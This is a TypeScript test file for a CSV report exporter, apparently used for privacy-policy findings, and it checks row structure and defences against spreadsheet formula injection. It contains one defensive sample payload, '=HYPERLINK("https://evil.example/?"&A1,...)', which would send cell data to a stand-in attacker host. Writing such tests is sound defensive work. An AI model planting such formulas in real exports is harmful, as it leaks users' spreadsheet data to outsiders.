import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Finding } from '../../src/model/finding.ts';
import type { Report } from '../../src/model/report.ts';
import { reportCsv } from '../../src/report/csv.ts';
import { dangerous, hostileText } from './hostile.ts';
import { sampleContext, sampleReport, silentContext, silentReport, unreadContext, unreadReport } from './sample.ts';

/** A table by RFC 4180, read by the letter: what a strict reader makes of it. */
function parsed(csv: string): readonly (readonly string[])[] {
  const rows: string[][] = [];
  let row: string[] = [];
  let rest = csv;
  while (rest !== '') {
    const match = /^(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/u.exec(rest);
    if (match === null) throw new Error(`not RFC 4180: ${rest.slice(0, 80)}`);
    row.push(match[1]?.replaceAll('""', '"') ?? match[2] ?? '');
    if (match[3] === '\r\n') {
      rows.push(row);
      row = [];
    }
    rest = rest.slice(match[0].length);
  }
  return rows;
}

function records(csv: string): readonly Readonly<Record<string, string>>[] {
  const [header = [], ...rows] = parsed(csv);
  for (const row of rows) expect(row).toHaveLength(header.length);
  return rows.map((row) => Object.fromEntries(header.map((name, index) => [name, row[index] ?? ''])));
}

const formula = /^\s*[=+\-@＝＋－＠]|^\s/u;

describe('the CSV report', () => {
  it('has one row a finding, in the report’s order, and one for each document of which there is none', () => {
    const rows = records(reportCsv(sampleReport, sampleContext));
    expect(rows.filter(({ row }) => row === 'finding').map((cells) => cells['finding_id'])).toEqual(
      sampleReport.findings.map(({ id }) => id),
    );
    expect(rows.filter(({ row }) => row !== 'finding').map((cells) => [cells['row'], cells['failure']])).toEqual([
      ['not-read', 'bot-wall'],
    ]);
  });

  it('keeps a document that could not be read apart from one in which nothing was found', () => {
    expect(records(reportCsv(unreadReport, unreadContext)).map(({ row, failure }) => [row, failure])).toEqual([
      ['not-read', 'wrong-document'],
    ]);
    expect(records(reportCsv(silentReport, silentContext)).map(({ row, failure }) => [row, failure])).toEqual([['no-finding', '']]);
  });

  it('has no cell that a spreadsheet takes for a formula', () => {
    const [, ...rows] = parsed(reportCsv(sampleReport, sampleContext));
    for (const cell of rows.flat()) expect(cell).not.toMatch(formula);
    const lines = records(reportCsv(sampleReport, sampleContext));
    expect(lines.find(({ practice }) => practice === 'sharing/brokers')?.['quote']).toBe(
      '\'=HYPERLINK("https://evil.example/?"&A1,"open") data brokers, who add what they know about you',
    );
  });

  it('leaves out the header where it follows another report’s rows', () => {
    const [header, ...rows] = parsed(reportCsv(sampleReport, sampleContext));
    expect(parsed(reportCsv(sampleReport, sampleContext, { header: false }))).toEqual(rows);
    expect(header?.[0]).toBe('row');
  });

  it('stays a table without formulas and controls, whatever a policy says', () => {
    const [first] = sampleReport.findings;
    fc.assert(
      fc.property(hostileText, fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', '\n', '\u200b=', ' =', '＝'), (text, start) => {
        const quote = start + text;
        const finding = { ...first, quote, lead: quote, section: [quote] } as Finding;
        const report: Report = { ...sampleReport, product: quote, findings: [finding] };
        const csv = reportCsv(report, sampleContext);
        expect(csv.replaceAll('\r\n', '')).not.toMatch(dangerous);
        for (const cell of parsed(csv).slice(1).flat()) expect(cell).not.toMatch(formula);
      }),
    );
  });
});
